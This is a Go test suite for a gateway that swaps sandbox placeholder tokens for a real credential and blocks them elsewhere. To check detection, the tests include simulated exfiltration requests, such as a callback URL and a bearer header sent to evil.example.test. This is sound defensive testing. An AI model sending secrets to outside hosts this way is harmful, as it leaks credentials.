package gateway_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"sallyport/audit"
	"sallyport/gateway"
	"sallyport/gateway/placeholder"
	"sallyport/internal/test/must"
	"sallyport/policy"
)

// real is a secret that each place spells in another way.
const real = `sk-real+key"0123456789&abcdef`

var (
	keyShape, _ = policy.Placeholder{}.Shape("key")
	own         = placeholder.Derive([]byte("sealed"), "s1", "key", keyShape)
	parents     = placeholder.Derive([]byte("sealed"), "s0", "key", keyShape)
	heldSet     = placeholder.New([]placeholder.Held{own, parents})
)

// newPlaceholderEnv is an environment whose sandbox holds placeholders of a credential,
// which a rule replaces in all places below /keyed, and which goes into a header under
// /header. Nothing is replaced elsewhere.
func newPlaceholderEnv(t *testing.T, version, upstream, secret string) *versionEnv {
	m := newVersionEnv(t, "transparent", version, upstream, "https", func(o *gateway.Options) {
		o.Placeholders = func(string) *placeholder.Set { return heldSet }
	})
	m.credential("key", secret)
	m.policy(func(in policy.Input) policy.Decision {
		d := m.allow(in)
		if in.Request == nil || in.Destination.Host != m.origin.name {
			return d
		}
		switch {
		case strings.HasPrefix(in.Request.Path, "/keyed"):
			d.Inject = []policy.Injection{{Credential: "key", Inject: policy.Inject{Placeholder: append([]string{"header:x-signature", "query:of"}, policy.PlaceholderPlaces...)}}}
		case strings.HasPrefix(in.Request.Path, "/lone"):
			d.Inject = []policy.Injection{{Credential: "key", Inject: policy.Inject{Placeholder: []string{policy.PlaceHeader}}}}
		case strings.HasPrefix(in.Request.Path, "/named"):
			d.Inject = []policy.Injection{{Credential: "key", Inject: policy.Inject{Placeholder: []string{"header:X-Api-Key", "query:key"}}}}
		case strings.HasPrefix(in.Request.Path, "/own/basic"):
			d.Inject = []policy.Injection{{Credential: "key", DenyOwn: true, Inject: policy.Inject{Basic: &policy.BasicInject{Username: "alice", Password: "{{ .token }}"}}}}
		case strings.HasPrefix(in.Request.Path, "/own/header"):
			d.Inject = []policy.Injection{{Credential: "key", DenyOwn: true, Inject: policy.Inject{Header: &policy.HeaderInject{Name: "Authorization", Value: "Our {{ .token }}!"}}}}
		case strings.HasPrefix(in.Request.Path, "/header"):
			d.Inject = []policy.Injection{{Credential: "key"}}
		case in.Request.Path == "/denied":
			d = policy.Decision{Action: policy.Deny, Reason: "not that"}
		}
		return d
	})
	return m
}

// received is what an upstream got, but for what is a secret's.
type received struct {
	target, body string
	length       int64
	header       http.Header
}

// receive keeps the requests that arrive.
func (m *versionEnv) receive(o *origin) func() []received {
	var mu sync.Mutex
	var all []received
	o.handle("/", func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return
		}
		mu.Lock()
		defer mu.Unlock()
		all = append(all, received{r.RequestURI, string(body), r.ContentLength, r.Header})
		_, _ = io.WriteString(w, "ok "+string(body))
	})
	return func() []received {
		mu.Lock()
		defer mu.Unlock()
		return all
	}
}

// eachWire runs a test for the versions of HTTP.
func eachWire(t *testing.T, secret string, test func(t *testing.T, m *versionEnv)) {
	for _, pair := range [][2]string{{"h1", "h1"}, {"h1", "h2"}, {"h2", "h1"}, {"h2", "h2"}} {
		t.Run(pair[0]+" to "+pair[1], func(t *testing.T) {
			t.Parallel()
			test(t, newPlaceholderEnv(t, pair[0], pair[1], secret))
		})
	}
}

// form is a form of parts, and its content type.
func parts(t *testing.T, value string) (text, kind string) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	must.OK(t, w.SetBoundary("xxxxxxxx"))
	must.OK(t, w.WriteField("client_secret", value))
	must.OK(t, w.Close())
	return b.String(), w.FormDataContentType()
}

func quoted(v any) string { b, _ := json.Marshal(v); return string(b) }

// The secret takes the placeholder's place in every part of a request, spelled as it has
// to be there.
func TestPlaceholdersAreReplaced(t *testing.T) {
	t.Parallel()
	eachWire(t, real, func(t *testing.T, m *versionEnv) {
		arrived := m.receive(m.origin)
		asked := 0
		ask := func(what string, change func(r *http.Request), path, kind, body string) received {
			t.Helper()
			r := m.request(t, "POST", path, strings.NewReader(body))
			if body == "" {
				r.Body, r.ContentLength = http.NoBody, 0
			}
			if kind != "" {
				r.Header.Set("Content-Type", kind)
			}
			if change != nil {
				change(r)
			}
			resp := m.do(t, r)
			answer := text(t, resp)
			asked++
			if resp.StatusCode != 200 || strings.Contains(answer, real) || len(arrived()) != asked {
				t.Fatalf("%s: %d %q, %d arrived of %d", what, resp.StatusCode, answer, len(arrived()), asked)
			}
			got := arrived()[asked-1]
			if all := fmt.Sprint(got); strings.Contains(all, own.Text[10:]) || strings.Contains(all, parents.Text[10:]) {
				t.Errorf("%s: the placeholder arrived: %s", what, all)
			}
			return got
		}
		for _, p := range []string{own.Text, parents.Text} {
			for name, value := range map[string][2]string{
				"Authorization": {"Bearer " + p, "Bearer " + real},
				"X-Api-Key":     {p, real},
				"X-Signature":   {`token="` + p + `"; v=1`, `token="` + real + `"; v=1`},
			} {
				if got := ask(name, func(r *http.Request) { r.Header.Set(name, value[0]) }, "/keyed", "", ""); got.header.Get(name) != value[1] {
					t.Errorf("header %s: %q", name, got.header.Get(name))
				}
			}
			got := ask("Basic", func(r *http.Request) { r.SetBasicAuth("x-access-token", p) }, "/keyed", "", "")
			if want := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+real)); got.header.Get("Authorization") != want {
				t.Errorf("Basic: %q", got.header.Get("Authorization"))
			}
			if got := ask("Basic's user", func(r *http.Request) { r.SetBasicAuth(p, "") }, "/keyed", "", ""); got.header.Get("Authorization") != "Basic "+base64.StdEncoding.EncodeToString([]byte(real+":")) {
				t.Errorf("Basic: %q", got.header.Get("Authorization"))
			}
			if got := ask("a filler", func(r *http.Request) { r.SetBasicAuth(p, "x-oauth-basic") }, "/lone", "", ""); got.header.Get("Authorization") != "Basic "+base64.StdEncoding.EncodeToString([]byte(real+":x-oauth-basic")) {
				t.Errorf("a filler: %q", got.header.Get("Authorization"))
			}
			if got := ask("a named key", func(r *http.Request) { r.Header.Set("Authorization", "Token token="+p) }, "/lone", "", ""); got.header.Get("Authorization") != "Token token="+real {
				t.Errorf("a named key: %q", got.header.Get("Authorization"))
			}
			if got := ask("names", func(r *http.Request) { r.Header.Set("X-Api-Key", p) }, "/named?key="+p, "", ""); got.header.Get("X-Api-Key") != real || got.target != "/named?key="+url.QueryEscape(real) {
				t.Errorf("names: %s %q", got.target, got.header.Get("X-Api-Key"))
			}
			if got := ask("own: deny", func(r *http.Request) { r.SetBasicAuth("alice", p) }, "/own/basic", "", ""); got.header.Get("Authorization") != "Basic "+base64.StdEncoding.EncodeToString([]byte("alice:"+real)) {
				t.Errorf("own: deny: %q", got.header.Get("Authorization"))
			}
			if got := ask("own: deny, a header", func(r *http.Request) { r.Header.Set("Authorization", "Our "+p+"!") }, "/own/header", "", ""); got.header.Get("Authorization") != "Our "+real+"!" {
				t.Errorf("own: deny, a header: %q", got.header.Get("Authorization"))
			}
			if got := ask("Cookie", func(r *http.Request) { r.Header.Set("Cookie", "mine=1; session="+p) }, "/keyed", "", ""); got.header.Get("Cookie") != "session="+real {
				t.Errorf("Cookie: %q", got.header.Get("Cookie"))
			}
			if got := ask("query", nil, "/keyed?a=%2B&key="+url.QueryEscape(p)+"&of="+p, "", ""); got.target != "/keyed?a=%2B&of="+url.QueryEscape(real)+"&key="+url.QueryEscape(real) {
				t.Errorf("query: %s", got.target)
			}
			for kind, body := range map[string][2]string{
				"application/json":                  {quoted(map[string]string{"k": "é\n" + p}), quoted(map[string]string{"k": "é\n" + real})},
				"application/x-www-form-urlencoded": {url.Values{"a": {"ü &"}, "secret": {p}}.Encode(), url.Values{"a": {"ü &"}, "secret": {real}}.Encode()},
				"text/plain; charset=utf-8":         {"key: " + p + "\n", "key: " + real + "\n"},
			} {
				for _, chunked := range []bool{false, true} {
					got := ask(kind, func(r *http.Request) {
						if chunked {
							r.ContentLength = -1
						}
					}, "/keyed", kind, body[0])
					if got.body != body[1] || !chunked && got.length != int64(len(body[1])) {
						t.Errorf("%s: %q, length %d", kind, got.body, got.length)
					}
				}
			}
			before, kind := parts(t, p)
			if after, _ := parts(t, real); ask(kind, nil, "/keyed", kind, before).body != after {
				t.Error("a form of parts is another")
			}
			// One that is too long to be measured goes in chunks.
			long := strings.Repeat("text ", 20<<10)
			if got := ask("long", nil, "/keyed", "text/plain", long+p+long); got.body != long+real+long {
				t.Errorf("a long body arrived with %d bytes", len(got.body))
			}
		}
		// The default: the credential goes where the rule says.
		if got := ask("default", func(r *http.Request) { r.Header.Set("X-Api-Key", own.Text) }, "/header", "", ""); got.header.Get("Authorization") != "Bearer "+real || got.header.Get("X-Api-Key") != "" {
			t.Errorf("default: %v", got.header)
		}
		// Without the placeholder there is no credential, and what is the sandbox's own
		// goes nowhere.
		if got := ask("none", func(r *http.Request) { r.Header.Set("Authorization", "Bearer mine") }, "/lone", "", ""); got.header.Get("Authorization") != "" {
			t.Errorf("without: %v", got.header)
		}
		decisions, completions := m.settled(t)
		through := 0
		for _, d := range decisions {
			if c := completions[d.ID()]; c != nil && len(c.Unmapped.Sallyport.Credentials) == 1 && c.Unmapped.Sallyport.Credentials[0].Placeholder {
				through++
			}
		}
		if through != asked-1 {
			t.Errorf("%d completions say that the placeholder was used, want %d", through, asked-1)
		}
		if f := m.found(); len(f) > 0 && f[0].Unmapped.Sallyport.State == audit.FindingExfiltration {
			t.Errorf("a finding: %s", f[0].Message)
		}
	})
}

// A body with a secret longer than its placeholder is not gathered: it goes in chunks, and a
// head that gets too large does not leave.
func TestLongSecrets(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("0123456789", 2<<10)
	eachWire(t, long, func(t *testing.T, m *versionEnv) {
		arrived := m.receive(m.origin)
		post := func(path, cookie string, n int) int {
			t.Helper()
			r := m.request(t, "POST", path, strings.NewReader(strings.Repeat(own.Text+"\n", n)))
			r.Header.Set("Content-Type", "text/plain")
			if cookie != "" {
				r.Header.Set("Cookie", cookie)
			}
			resp := m.do(t, r)
			_, _ = io.Copy(io.Discard, resp.Body)
			return resp.StatusCode
		}
		for i, n := range []int{3, 4, 50} {
			if status := post("/keyed", "", n); status != 200 || len(arrived()) != i+1 {
				t.Fatalf("%d placeholders: %d", n, status)
			}
			got, want := arrived()[i], int64(-1)
			if n == 3 {
				want = int64(n * (len(long) + 1))
			}
			if got.body != strings.Repeat(long+"\n", n) || got.length != want {
				t.Errorf("%d placeholders: %d bytes, length %d, want %d", n, len(got.body), got.length, want)
			}
		}
		for what, status := range map[string]int{
			"a cookie":   post("/keyed", strings.Repeat("a="+own.Text+"; ", 200), 1),
			"a query":    post("/keyed?"+strings.Join([]string{"key", "token", "auth", "jwt", "secret", "sig", "api_key", "bearer"}, "="+own.Text+"&"), "", 1),
			"the path":   post("/keyed/"+strings.Repeat(own.Text+"/", 20), "", 1),
			"all of it":  post("/keyed/"+strings.Repeat(own.Text+"/", 4)+"?key="+own.Text, "a="+own.Text+"; b="+own.Text, 1),
			"more of it": post("/keyed?of="+strings.Repeat("x", 70<<10)+own.Text, "a="+own.Text+"; b="+own.Text, 1),
		} {
			if status != 431 {
				t.Errorf("too much in %s: %d", what, status)
			}
		}
		if n := len(arrived()); n != 3 {
			t.Errorf("%d arrived", n)
		}
	})
}

// A path has the secret as one segment, or the request does not leave.
func TestPlaceholderInPath(t *testing.T) {
	t.Parallel()
	for secret, want := range map[string]string{
		"123456:ABC-DEF1234ghIkl": "/keyed/bot123456:ABC-DEF1234ghIkl/send",
		"with space 0123456789":   "/keyed/botwith%20space%200123456789/send",
		"sk-/../0123456789":       "",
		"sk-%2f0123456789abcdef":  "",
	} {
		m := newPlaceholderEnv(t, "h1", "h1", secret)
		arrived := m.receive(m.origin)
		for _, p := range []string{own.Text, url.QueryEscape(own.Text)} {
			before := len(arrived())
			resp := m.do(t, m.request(t, "GET", "/keyed/bot"+p+"/send", nil))
			answer := text(t, resp)
			if want == "" {
				if resp.StatusCode != 503 || len(arrived()) != before || strings.Contains(answer, secret) {
					t.Errorf("%q: %d %s", secret, resp.StatusCode, answer)
				}
			} else if all := arrived(); len(all) != before+1 || all[before].target != want {
				t.Errorf("%q: %d %v", secret, resp.StatusCode, all)
			}
		}
	}
}

// Where it is not replaced, a request with a placeholder is denied, and a body with one
// does not arrive; each is a finding with the credential's name.
func TestPlaceholdersDoNotLeave(t *testing.T) {
	t.Parallel()
	eachWire(t, real, func(t *testing.T, m *versionEnv) {
		other := m.netEnv.origin("files.example.test", m.upstream, true)
		arrived := m.receive(other)
		bound := m.receive(m.origin)
		findings := 0
		refused := func(what string, r *http.Request) {
			t.Helper()
			resp, err := m.client.Do(r)
			if must.OK(t, err); resp.StatusCode != 403 {
				t.Errorf("%s: %d", what, resp.StatusCode)
			}
			answer := text(t, resp)
			if !strings.Contains(answer, "placeholder") || !strings.Contains(answer, "key") {
				t.Errorf("%s: %s", what, answer)
			}
			findings++
			must.Soon(t, "a finding of "+what, func() bool { return len(m.found()) >= findings })
			f := m.found()
			if x := f[len(f)-1].Unmapped.Sallyport; len(f) != findings || x.State != audit.FindingExfiltration || len(x.Found) != 1 || x.Found[0].Name != "key" {
				t.Errorf("%s: %d findings of %d: %+v", what, len(f), findings, x)
			}
		}
		to := func(o *origin, path, kind, body string) *http.Request {
			r, err := http.NewRequestWithContext(t.Context(), "POST", o.url("https", path), strings.NewReader(body))
			must.OK(t, err)
			if kind != "" {
				r.Header.Set("Content-Type", kind)
			}
			return r
		}
		header := func(r *http.Request, name, value string) *http.Request { r.Header.Set(name, value); return r }
		p := own.Text
		for what, r := range map[string]*http.Request{
			"header":           header(to(other, "/", "", ""), "X-Any", "a"+p+"b"),
			"bearer":           header(to(other, "/", "", ""), "Authorization", "Bearer "+parents.Text),
			"basic":            header(to(other, "/", "", ""), "Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("x:"+p))),
			"escaped":          header(to(other, "/", "", ""), "Referer", "https://x/?"+url.QueryEscape(p)),
			"query":            to(other, "/?q="+p, "", ""),
			"query escaped":    to(other, "/?q="+url.QueryEscape(p), "", ""),
			"path":             to(other, "/a/"+p, "", ""),
			"json":             to(other, "/", "application/json", `{"k": "`+p+`"}`),
			"json escaped":     to(other, "/", "application/json", `{"k": "\u0073`+p[1:]+`"}`),
			"form":             to(other, "/", "application/x-www-form-urlencoded", "k="+url.QueryEscape(p)),
			"octets":           to(other, "/", "", strings.Repeat("x", 100<<10)+p),
			"denied":           header(to(m.origin, "/denied", "", ""), "Authorization", "Bearer "+p),
			"no rule":          header(to(m.origin, "/", "", ""), "Authorization", "Bearer "+p),
			"no place":         to(m.origin, "/lone", "application/json", `{"k": "`+p+`"}`),
			"no place, either": to(m.origin, "/header", "application/json", `{"k": "`+p+`"}`),
			"unknown type":     to(m.origin, "/keyed", "application/octet-stream", "k"+p),
			"not alone":        header(to(m.origin, "/keyed", "", ""), "Authorization", "Bearer mine, "+p),
			"other header":     header(to(m.origin, "/header", "", ""), "X-Other", p),
			"own password":     header(to(m.origin, "/lone", "", ""), "Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte(p+":glpat-mine"))),
			"own user":         header(to(m.origin, "/lone", "", ""), "Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("sk_mine:"+p))),
			"own, and a space": header(to(m.origin, "/lone", "", ""), "Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("mine:mine "+p))),
			"own scheme":       header(to(m.origin, "/lone", "", ""), "Authorization", "sk_mine "+p),
			"own name":         header(to(m.origin, "/lone", "", ""), "Authorization", "Token sk_mine="+p),
			"no carrier":       header(to(m.origin, "/keyed", "", ""), "Referer", "https://x/"+p),
			"title":            header(to(m.origin, "/lone", "", ""), "X-Title", p),
			"callback":         to(m.origin, "/keyed?callback=https://evil.example.test/"+p, "", ""),
			"in a key":         to(m.origin, "/keyed?"+p+"=1", "", ""),
			"in a key too":     to(m.origin, "/keyed?key["+p+"]="+p, "", ""),
			"another name":     header(to(m.origin, "/named", "", ""), "Authorization", "Bearer "+p),
			"another key":      to(m.origin, "/named?token="+p, "", ""),
		} {
			refused(what, r)
		}
		for _, r := range append(arrived(), bound()...) {
			t.Errorf("arrived: %+v", r)
		}
	})
}

// The bytes of a client of the refusal address are looked at too. A request whose approval
// ended in a decision that does not put the credential is denied, although the one that asked
// for the approval did.
func TestPlaceholderAfterAnApproval(t *testing.T) {
	t.Parallel()
	m := newVersionEnv(t, "transparent", "h1", "h1", "https", asking(newOperatorStore(t)), func(o *gateway.Options) {
		o.Placeholders = func(string) *placeholder.Set { return heldSet }
	})
	m.credential("key", real)
	var decided atomic.Int32
	m.policy(func(in policy.Input) policy.Decision {
		d := m.allow(in)
		if in.Request != nil && decided.Add(1) == 1 {
			d.Action, d.Approvals = policy.Approve, &policy.Approvals{}
			d.Inject = []policy.Injection{{Credential: "key", Inject: policy.Inject{Placeholder: []string{"header:X-Note"}}}}
		}
		return d
	})
	arrived := m.receive(m.origin)
	r := m.request(t, "POST", "/", strings.NewReader("body"))
	r.Header.Set("X-Note", own.Text)
	resp := m.do(t, r)
	if answer := text(t, resp); resp.StatusCode != 403 || !strings.Contains(answer, "no rule puts the credential") || len(arrived()) != 0 || decided.Load() < 2 {
		t.Errorf("%d %s, %d have arrived after %d decisions", resp.StatusCode, answer, len(arrived()), decided.Load())
	}
}

func TestPlaceholderForARefusedName(t *testing.T) {
	t.Parallel()
	m := newPlaceholderEnv(t, "h1", "h1", real)
	r, err := http.NewRequestWithContext(t.Context(), "GET", "https://evil.example.test/", nil)
	must.OK(t, err)
	r.Header.Set("Authorization", "Bearer "+own.Text)
	m.policy(func(in policy.Input) policy.Decision {
		return policy.Decision{Action: policy.Deny, Reason: "no rule allows this"}
	})
	m.netEnv.name("evil.example.test")
	resp, err := m.client.Do(r)
	must.OK(t, err)
	if answer := text(t, resp); resp.StatusCode != 403 || !strings.Contains(answer, "placeholder") {
		t.Errorf("%d %s", resp.StatusCode, answer)
	}
	must.Soon(t, "a finding", func() bool {
		f := m.found()
		return len(f) == 1 && f[0].Unmapped.Sallyport.State == audit.FindingExfiltration
	})
}

// sendPart writes one frame of a message of several.
func (s *socket) sendPart(kind byte, payload string, last bool) error {
	if last {
		kind |= 0x80
	}
	b := []byte{kind, 0x80 | byte(len(payload)), 1, 2, 3, 4}
	for i, c := range []byte(payload) {
		b = append(b, c^b[2+i%4])
	}
	_, err := s.Write(b)
	return err
}

// readMasked reads one short frame of a client.
func readMasked(r io.Reader) (last bool, op byte, payload string, err error) {
	var head [2]byte
	if _, err = io.ReadFull(r, head[:]); err != nil {
		return
	}
	size := int(head[1] & 0x7f)
	if size > 125 {
		var more [2]byte
		if _, err = io.ReadFull(r, more[:]); err != nil {
			return
		}
		size = int(more[0])<<8 | int(more[1])
	}
	text := make([]byte, 4+size)
	if _, err = io.ReadFull(r, text); err != nil {
		return
	}
	for i := range size {
		text[4+i] ^= text[i%4]
	}
	return head[0]&0x80 != 0, head[0] & 15, string(text[4:]), nil
}

// Messages of a WebSocket have placeholders replaced across frames, or end it.
func TestPlaceholdersInMessages(t *testing.T) {
	t.Parallel()
	for _, version := range []string{"h1", "h2"} {
		t.Run(version, func(t *testing.T) {
			t.Parallel()
			m := newPlaceholderEnv(t, version, "h1", real)
			var mu sync.Mutex
			var got []string
			take := func(w http.ResponseWriter, r *http.Request) {
				serveSocket(w, r, func(c io.Writer) {
					for text := ""; ; {
						last, op, payload, err := readMasked(c.(io.Reader))
						if err != nil || op == wsClose {
							return
						}
						if op == wsPing {
							fmt.Fprintf(c, "\x8a%c%s", len(payload), payload)
							continue
						}
						if text += payload; last {
							mu.Lock()
							got = append(got, text)
							mu.Unlock()
							text = ""
							fmt.Fprint(c, "\x81\x02ok")
						}
					}
				})
			}
			m.handle("/keyed", take)
			m.handle("/socket", take)
			s, _, err := m.upgrade(t, "/keyed", field{"authorization", "Bearer " + own.Text})
			must.OK(t, err)
			message := `{"key": "` + own.Text + `"}`
			want := []string{}
			for cut := range len(message) + 1 {
				must.OK(t, s.sendPart(wsText, message[:cut], false))
				must.OK(t, s.send(wsPing, []byte("hi")))
				must.OK(t, s.sendPart(0, message[cut:], true))
				want = append(want, `{"key": `+quoted(real)+`}`)
				for range 2 {
					_, _, err := s.receive()
					must.OK(t, err)
				}
			}
			must.OK(t, s.send(wsText, []byte("key "+own.Text)))
			_, _, err = s.receive()
			must.OK(t, err)
			want = append(want, "key "+real)
			mu.Lock()
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Errorf("got %q", got)
			}
			got = nil
			mu.Unlock()
			// Bytes cannot be told apart: nothing is replaced in them.
			for path, kind := range map[string]byte{"/keyed": 2, "/socket": wsText} {
				before := len(m.found())
				s, _, err := m.upgrade(t, path)
				must.OK(t, err)
				must.OK(t, s.send(kind, []byte("key "+own.Text)))
				for err == nil {
					_, _, err = s.receive()
				}
				must.Soon(t, "a finding of a message on "+path, func() bool { return len(m.found()) > before })
				if x := m.found()[before].Unmapped.Sallyport; x.State != audit.FindingExfiltration {
					t.Errorf("%s: %+v", path, x)
				}
			}
			mu.Lock()
			defer mu.Unlock()
			if len(got) > 0 {
				t.Errorf("arrived: %q", got)
			}
		})
	}
}

// A body that is broken off leaves nothing of its placeholder behind the public text.
func TestPlaceholderIsBrokenOffInTime(t *testing.T) {
	t.Parallel()
	m := newPlaceholderEnv(t, "h1", "h1", real)
	other := m.netEnv.origin("files.example.test", "h1", true)
	var mu sync.Mutex
	var got bytes.Buffer
	other.handle("/", func(_ http.ResponseWriter, r *http.Request) {
		buf := make([]byte, 1)
		for {
			n, err := r.Body.Read(buf)
			mu.Lock()
			got.Write(buf[:n])
			mu.Unlock()
			if err != nil {
				return
			}
		}
	})
	in, out := io.Pipe()
	r, err := http.NewRequestWithContext(t.Context(), "POST", other.url("https", "/"), in)
	must.OK(t, err)
	go func() {
		for _, c := range "before " + own.Text + " after" {
			if _, err := out.Write([]byte(string(c))); err != nil {
				return
			}
		}
		_ = out.Close()
	}()
	resp, err := m.client.Do(r)
	if err == nil {
		if answer := text(t, resp); resp.StatusCode != 403 {
			t.Errorf("%d %s", resp.StatusCode, answer)
		}
	}
	must.Soon(t, "a finding", func() bool { return len(m.found()) == 1 })
	mu.Lock()
	defer mu.Unlock()
	if want := "before "; !strings.HasPrefix(want+own.Text[:9], got.String()) {
		t.Errorf("arrived: %q", got.String())
	}
}
